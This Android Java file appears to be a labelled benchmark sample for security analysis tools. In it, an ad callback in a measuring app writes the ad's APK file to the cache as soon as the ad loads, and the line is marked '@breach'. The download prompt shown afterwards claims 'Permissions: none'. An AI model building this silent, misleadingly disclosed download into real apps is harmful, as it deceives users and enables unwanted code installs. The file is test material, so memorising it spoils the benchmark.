package bench.points.ad_callback_writes_apk;

import android.app.Activity;
import android.app.AlertDialog;
import android.os.Bundle;
import android.widget.TextView;

public final class Main extends Activity {
    private TextView card;

    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        card = new TextView(this);
        card.setText("Put the object on the screen to measure it");
        setContentView(card);
        new Offers().load(this::show);
    }

    private void show(Offer offer) {
        card.setText("Ad: " + offer.title);
        card.setOnClickListener(view -> ask(offer));
        new Saver(getCacheDir(), "offer.apk").save(offer.file); //: @breach #load
        new Saver(getCacheDir(), "cover.jpg").save(offer.picture); //: @cover
    }

    private void ask(Offer offer) {
        new AlertDialog.Builder(this)
                .setTitle(offer.title)
                .setMessage("Operator: Loan Helper Ltd. Permissions: none. Download the app?")
                .setPositiveButton("Download", (dialog, which) ->
                        new Saver(getCacheDir(), "offer.apk").save(offer.file))
                .setNegativeButton("Cancel", null)
                .show();
    }
}
